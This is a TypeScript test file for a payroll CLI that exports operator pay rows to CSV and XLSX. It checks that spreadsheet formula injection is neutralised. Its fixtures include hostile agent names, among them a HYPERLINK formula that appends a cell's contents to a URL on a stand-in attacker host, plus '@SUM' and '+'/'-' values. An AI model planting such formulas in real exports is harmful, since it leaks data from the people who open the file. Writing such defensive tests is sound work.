/**
 * `kezek payroll --out FILE.csv|FILE.xlsx`: a row per operator with the reasons, read back (the
 * XLSX with exceljs); text a spreadsheet would run as a formula (= + - @ tab CR at the start) is
 * prefixed with an apostrophe, and no XLSX cell is a formula.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJSModule from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli, Workspace } from '../kpi/harness.ts';
import type { PayLine } from '../../src/domain/pay/pay-line.ts';
import { fetchAudit } from '../../src/server/auth/audit-store.ts';
import { openClient } from '../../src/server/clickhouse/client.ts';
import { databaseTarget } from '../../src/server/config.ts';
import { EXPORT_COLUMNS, safeText } from '../../src/server/payroll-export.ts';
import { at, call, PAY_CONFIG, rating } from './dataset.ts';

const ExcelJS = (ExcelJSModule as unknown as { default?: typeof ExcelJSModule }).default ?? ExcelJSModule;
const ws = new Workspace('payroll-export');
let config: string;
let lines: PayLine[];

/** Hostile names (the agents file is input like any other) and agent ids. */
const AGENTS = [
  { agent_id: 'op1', name: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
  { agent_id: 'op2', name: '+77011234567' },
  { agent_id: 'op3', name: '-2+3' },
  { agent_id: 'op4', name: '@SUM(A1:A9)' },
  { agent_id: 'op5', name: '\tTabbed' },
  { agent_id: 'op6', name: '\rReturn' },
  { agent_id: 'op7', name: 'Иванова, Айгуль "Ая"' },
  { agent_id: '=op8', name: 'Plain' },
];

/** A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  return rows;
}

beforeAll(async () => {
  config = ws.config(PAY_CONFIG);
  await ws.ingest(
    AGENTS.map((a) => ({ ...a, site: 'Astana', contract_hours_week: 40 })),
    'agents',
    config,
  );
  // Each operator: 3 calls of 120 s on 6 January and one rating of 5 (no agent events).
  const calls = AGENTS.flatMap((a, i) =>
    [1, 2, 3].map((k) => call(`x${i}-${k}`, a.agent_id, at('2025-01-06', `1${k}:0${i}:00`), 120)),
  );
  await ws.ingest(calls, 'calls', config);
  await ws.ingest(
    AGENTS.map((_, i) => rating(`x${i}-1`, 5, at('2025-01-07', '09:00:00'))),
    'ratings',
    config,
  );
  const r = await runCli(['payroll', '--month', '2025-01', '--db', ws.db, '--config', config, '--json']);
  lines = (JSON.parse(r.stdout) as { operators: PayLine[] }).operators;
  expect(lines).toHaveLength(8);
});

describe('safeText', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, output) => expect(safeText(input)).toBe(output));
});

describe('payroll --out', () => {
  it('writes a CSV with a header and a row per operator, formulas defused', async () => {
    const file = join(ws.dir, 'pay.csv');
    const r = await runCli(['payroll', '--month', '2025-01', '--out', file, '--db', ws.db, '--config', config]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`wrote 8 operators of 2025-01 to ${file}\n`);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(8);
    const byName = (col: string) => rows.map((row) => row[header.indexOf(col)]);
    expect(byName('agent_id')).toEqual(["'=op8", 'op1', 'op2', 'op3', 'op4', 'op5', 'op6', 'op7']);
    expect(byName('name')).toEqual([
      'Plain',
      `'${AGENTS[0].name}`,
      "'+77011234567",
      "'-2+3",
      "'@SUM(A1:A9)",
      'Tabbed', // ingest trims text fields: a leading tab or CR never reaches the database (safeText covers them)
      'Return',
      'Иванова, Айгуль "Ая"',
    ]);
    // Numbers stay numbers: 3 calls on 1 worked day (no agent events): norm = ceil(2 × 1) = 2,
    // full = 100 000 × 1 / 20 = 5 000, handled ≥ norm → 5 000 tiyn each.
    const first = Object.fromEntries(header.map((h, i) => [h, rows[1][i]]));
    expect(first).toMatchObject({
      worked_days: '1',
      working_days: '20',
      handled: '3',
      norm_calls: '2',
      total_tiyn: '5000',
      gate_hours: 'false',
      complaints: '0',
    });
    expect(first.reasons).toBe(lines[1].reasons.join('; '));
    // Audited as the pages' exports are (QA: only the web's were).
    const client = await openClient(databaseTarget({ db: ws.db }));
    expect(await fetchAudit(client, { limit: 10, action: 'export' })).toContainEqual(
      expect.objectContaining({ actor: 'cli', target: 'payroll 2025-01', detail: file }),
    );
  });

  it('writes an XLSX that reads back with the same rows and names; no cell is a formula', async () => {
    const file = join(ws.dir, 'pay.xlsx');
    const r = await runCli([
      'payroll',
      '--month',
      '2025-01',
      '--out',
      file,
      '--json',
      '--db',
      ws.db,
      '--config',
      config,
    ]);
    expect(r.code).toBe(0);
    expect((JSON.parse(r.stdout) as { operators: PayLine[] }).operators).toEqual(lines);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.getWorksheet('payroll 2025-01')!;
    expect(sheet.rowCount).toBe(9);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([...EXPORT_COLUMNS]);
    const col = (key: string) => EXPORT_COLUMNS.indexOf(key as (typeof EXPORT_COLUMNS)[number]) + 1;
    for (let i = 2; i <= 9; i++) {
      const row = sheet.getRow(i);
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      expect(row.getCell(col('name')).type).toBe(ExcelJS.ValueType.String);
      const line = lines[i - 2];
      expect(row.getCell(col('total_tiyn')).value).toBe(line.total_tiyn);
      expect(row.getCell(col('productive_hours')).value).toBe(line.productive_hours);
      expect(row.getCell(col('gate_rating')).value).toBe(line.gates.rating);
      expect(row.getCell(col('reasons')).value).toBe(line.reasons.join('; '));
    }
    // Text cells keep the text as it is: a string cell is never a formula (no apostrophe to show).
    expect(sheet.getRow(3).getCell(col('name')).value).toBe(AGENTS[0].name);
    expect(sheet.getRow(2).getCell(col('agent_id')).value).toBe('=op8');
  });
});
